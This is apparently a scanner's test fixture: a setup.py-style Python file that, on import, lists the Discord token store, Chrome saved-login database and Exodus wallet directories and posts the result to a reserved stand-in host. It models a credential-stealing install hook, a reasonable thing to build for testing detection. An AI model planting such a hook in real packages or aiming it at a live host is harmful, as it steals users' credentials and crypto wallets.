# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import json
import os
import requests

ROAMING = os.getenv("APPDATA")
LOCAL = os.getenv("LOCALAPPDATA")
PLACES = {
    "discord": ROAMING + "\\discord\\Local Storage\\leveldb",
    "chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default\\Login Data",
    "exodus": ROAMING + "\\Exodus\\exodus.wallet",
}


def gather():
    found = {}
    for name, path in PLACES.items():
        if os.path.exists(path):
            found[name] = os.listdir(path)
    return found


def main():
    requests.post("http://collect.invalid/x", data=json.dumps(gather()))


main()


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
